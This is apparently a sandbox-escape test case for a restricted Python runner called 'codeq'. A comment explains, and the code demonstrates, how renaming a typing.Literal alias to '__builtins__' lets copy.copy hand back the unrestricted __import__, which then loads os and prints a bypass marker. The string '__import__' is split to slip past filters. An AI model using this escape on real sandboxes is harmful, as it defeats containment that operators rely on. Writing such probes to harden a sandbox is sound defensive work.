# (data policy; strict too) typing._GenericAlias.__reduce__ returns (operator.getitem,
# (globals()[self._name], args)): the ORIGIN is looked up by name in typing's own module
# namespace, and _name is one of the attributes _GenericAlias.__setattr__ lets anyone set on
# an alias (a plain, single-underscore name: no rule refuses `alias._name = ...`). With _name
# "__builtins__" the origin is the real builtins dict of typing's globals; Literal keeps its
# string argument as is (no ForwardRef), so args is "__import__". copy.copy() runs the reduce
# value itself: harden_copy judges only getattr and builtins as reducers, and operator.getitem
# on the real builtins dict returns the unrestricted __import__.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "146_typing_alias_reduce_name_globals"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import copy
import typing

alias = typing.Literal["__imp" + "ort__"]
alias._name = "__builtins__"
real_import = copy.copy(alias)  # getitem(typing's globals()["__builtins__"], "__import__")
real_os = real_import("os")
won("%s pid=%s" % (real_import, real_os.getpid()))
